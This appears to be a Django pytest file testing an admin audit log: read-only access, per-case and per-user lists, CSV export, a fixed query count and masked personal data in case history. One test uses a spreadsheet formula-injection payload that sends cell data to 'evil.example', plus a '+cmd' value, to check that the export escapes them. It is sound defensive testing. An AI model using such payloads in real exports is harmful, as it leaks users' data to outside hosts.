"""The access log in the admin: read-only, per case and per user, CSV through safe_row, query count pinned;
and the per-case row history with masked personal data."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from audit.admin import log_url_for_case, log_url_for_user
from audit.models import AccessLogEntry, Action
from audit.services import access_log_record
from cases.models import Party
from cases.services import case_admin_edit
from departments.models import Role, StaffProfile

pytestmark = pytest.mark.django_db

User = get_user_model()
LIST = "admin:audit_accesslogentry_changelist"
PINNED_LIST_QUERIES = 10  # session, user, filters, date hierarchy, count, rows: not per row


@pytest.fixture
def superuser(db):
    return User.objects.create_superuser("root", "root@example.cn", "zongzhi-test")


@pytest.fixture
def admin_client(client, superuser):
    client.force_login(superuser)
    return client


def listed(response) -> list[AccessLogEntry]:
    return list(response.context["cl"].result_list)


def test_the_log_is_read_only_in_the_admin(admin_client, coordinator):
    row = access_log_record(
        action=Action.REVEAL_PERSONAL, actor=coordinator, case_code="X", reason="联系当事人"
    )
    assert admin_client.get(reverse("admin:audit_accesslogentry_add")).status_code == 403
    change = reverse("admin:audit_accesslogentry_change", args=[row.pk])
    page = admin_client.get(change)
    assert page.status_code == 200 and 'name="_save"' not in page.content.decode()
    assert admin_client.post(change, {"reason": "改写"}).status_code == 403
    assert (
        admin_client.post(
            reverse("admin:audit_accesslogentry_delete", args=[row.pk]), {"post": "yes"}
        ).status_code
        == 403
    )
    assert AccessLogEntry.objects.get(pk=row.pk).reason == "联系当事人"


def test_per_case_list_and_the_link_from_the_case_admin(admin_client, new_case, coordinator):
    case, other = new_case(), new_case()
    mine = access_log_record(
        action=Action.REVEAL_PERSONAL, actor=coordinator, case_code=case.code, reason="a"
    )
    access_log_record(action=Action.REVEAL_PERSONAL, actor=coordinator, case_code=other.code, reason="b")

    case_page = admin_client.get(reverse("admin:cases_case_change", args=[case.pk])).content.decode()
    link = log_url_for_case(case.code)
    assert link.replace("&", "&amp;") in case_page or link in case_page

    response = admin_client.get(link)
    assert response.status_code == 200
    shown = listed(response)
    # Mine, and the admin's own opening of the case page (it shows the full numbers); not the other case's.
    assert mine in shown and {r.case_code for r in shown} == {case.code}
    assert [r.details for r in shown if r != mine] == [{"via": "admin"}]
    # "导出 CSV" exports exactly this list: the same query string.
    assert reverse("admin:audit_accesslogentry_export") + "?case=" + case.code in response.content.decode()


def test_per_user_list_shows_rows_by_and_about_the_user_and_the_user_admin_links_it(
    admin_client, superuser, coordinator, reception
):
    by_them = access_log_record(action=Action.EXPORT_LEDGER, actor=coordinator)
    profile = StaffProfile.objects.get(user=coordinator)
    profile.role = Role.LEADER
    profile.save()  # about them: a row whose target is the coordinator
    about_them = AccessLogEntry.objects.filter(action=Action.CHANGE_STAFF, target_user=coordinator).last()
    access_log_record(action=Action.EXPORT_LEDGER, actor=reception)

    user_page = admin_client.get(reverse("admin:auth_user_change", args=[coordinator.pk])).content.decode()
    assert log_url_for_user(coordinator.pk) in user_page

    response = admin_client.get(log_url_for_user(coordinator.pk))
    shown = listed(response)
    assert by_them in shown and about_them in shown
    assert all(coordinator.pk in (r.actor_id, r.target_user_id) for r in shown)


def test_the_csv_export_puts_every_cell_through_safe_row_and_is_itself_logged(
    admin_client, superuser, coordinator
):
    access_log_record(
        action=Action.REVEAL_PERSONAL,
        actor=coordinator,
        case_code="42092320260000015",
        reason='=HYPERLINK("http://evil.example/?x="&A1,"open")',
        object_repr="+cmd",
    )
    access_log_record(action=Action.EXPORT_LEDGER, actor=coordinator, case_code="")

    response = admin_client.get(
        reverse("admin:audit_accesslogentry_export"), {"action__exact": "personal.reveal"}
    )

    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    header, *body = list(csv.reader(io.StringIO(text)))
    assert header[0] == "时间" and len(body) == 1
    row = dict(zip(header, body[0], strict=True))
    assert row["事由"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"open")'
    assert (
        row["对象"] == "'+cmd"
        and row["操作"] == "查看完整个人信息"
        and row["案件编号"] == "42092320260000015"
    )
    export = AccessLogEntry.objects.get(action=Action.EXPORT_AUDIT)
    assert export.actor == superuser
    assert export.details == {"filters": {"action__exact": "personal.reveal"}, "rows": 1}


def test_the_log_list_query_count_does_not_grow_with_rows(admin_client, coordinator, reception):
    def count_queries() -> int:
        with CaptureQueriesContext(connection) as queries:
            response = admin_client.get(reverse(LIST))
        assert response.status_code == 200
        return len(queries)

    for _ in range(3):
        access_log_record(action=Action.EXPORT_LEDGER, actor=coordinator)
    few = count_queries()
    for i in range(40):
        access_log_record(
            action=Action.REVEAL_PERSONAL, actor=reception if i % 2 else coordinator, case_code=f"C{i}"
        )
    many = count_queries()
    assert few == many
    assert many == PINNED_LIST_QUERIES, many


def test_the_row_history_of_a_case_lists_changes_in_time_order_with_masked_numbers(
    admin_client, superuser, new_case, reception
):
    case = new_case()
    case_admin_edit(case=case, actor=superuser, changes={"title": "拖欠工资纠纷（更正）"})
    party = case.parties.get(name="张三")
    party.phone = "13900001111"
    party._history_user = superuser
    party.save()

    case_page = admin_client.get(reverse("admin:cases_case_change", args=[case.pk])).content.decode()
    url = reverse("admin:cases_case_row_history", args=[case.pk])
    assert url in case_page

    response = admin_client.get(url)

    assert response.status_code == 200
    body = response.content.decode()
    for full in ("13812345678", "13900001111", "11010519491231002X"):
        assert full not in body
    entries = response.context["entries"]
    assert [e["at"] for e in entries] == sorted(e["at"] for e in entries)
    title_change = next(e for e in entries if any(c["new"] == "拖欠工资纠纷（更正）" for c in e["changes"]))
    assert title_change["who"] == superuser.username
    assert title_change["changes"] == [
        {"field": "事项", "old": "拖欠工资纠纷", "new": "拖欠工资纠纷（更正）"}
    ]
    phone_change = entries[-1]
    assert phone_change["who"] == superuser.username and phone_change["what"] == "当事人 张*"
    assert phone_change["changes"] == [{"field": "联系电话", "old": "138****5678", "new": "139****1111"}]
    created = next(e for e in entries if e["what"] == "当事人 张*")
    assert created["who"] == reception.username


def test_the_row_history_is_for_administrators_only(client, coordinator, new_case):
    case = new_case()
    client.force_login(coordinator)
    response = client.get(reverse("admin:cases_case_row_history", args=[case.pk]))
    assert response.status_code in (302, 403)
    assert Party.objects.filter(case=case).exists()
